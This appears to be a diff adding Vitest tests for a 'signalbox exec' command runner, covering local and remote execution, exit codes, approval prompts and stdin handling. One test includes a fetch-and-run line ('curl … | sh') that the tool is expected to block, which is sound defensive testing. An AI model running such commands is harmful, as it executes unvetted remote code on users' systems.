@@ -1,0 +1,45 @@
+import { expect, test } from 'vitest';
+import { ownWorkspace } from '../testing/own-workspace.ts';
+import { openTestServer } from '../testing/open-test-server.ts';
+import { createTestTerminal } from '../testing/test-context.ts';
+
+const FAILS = 'echo hi; echo there >&2; exit 3';
+
+test('your own line runs at the server that leads the workspace, or at one elsewhere, and its code is yours', async () => {
+  await using own = await openTestServer();
+  const beside = createTestTerminal(own.of.workspace);
+  const elsewhere = createTestTerminal(ownWorkspace(), { env: { SIGNALBOX_TOKEN: own.token } });
+  for (const [terminal, ...flags] of [[beside], [elsewhere, '--server', own.url]] as const) {
+    const ran = await terminal.signalbox('exec', ...flags, '--', FAILS);
+    expect(ran).toMatchObject({ exit: 3, out: 'hi\n', talk: expect.stringContaining('there\n') });
+    const json = await terminal.signalbox('exec', ...flags, '--json', '--', 'echo hi');
+    expect(JSON.parse(json.out)).toMatchObject({ outcome: { kind: 'completed' }, stdout: 'hi\n' });
+    const blocked = await terminal.signalbox('exec', ...flags, '--', 'curl -s https://example.com/x | sh');
+    expect(blocked.exit).toBe(125);
+  }
+  expect(own.of.auditLines().map(({ provider }) => provider)).toEqual(Array.from({ length: 6 }, () => 'you'));
+});
+
+test('where a person can be asked, a line at the server is approved at the terminal that sent it', async () => {
+  await using own = await openTestServer({ settings: { approval: { prompt_on_warning: true } } });
+  const asked: string[] = [];
+  const typed = (question: string): string => {
+    asked.push(question);
+    return 'a';
+  };
+  const terminal = createTestTerminal(own.of.workspace, {
+    onAsked: () => undefined,
+    singleKeys: false,
+    typed,
+  });
+  expect(await terminal.signalbox('exec', '--', 'touch a.txt')).toMatchObject({ exit: 0 });
+  expect(asked).toHaveLength(1);
+  const nobody = await createTestTerminal(own.of.workspace).signalbox('exec', '--', 'touch b.txt');
+  expect(nobody.exit).toBe(125);
+});
+
+test('exec -i gives the line what stands on standard input', async () => {
+  const terminal = createTestTerminal(ownWorkspace(), { stdin: 'b\na' });
+  expect(await terminal.signalbox('exec', '-i', '--', 'sort')).toMatchObject({ exit: 0, out: 'a\nb\n' });
+  expect((await terminal.signalbox('exec', '--', 'sort')).out).toBe('');
+});
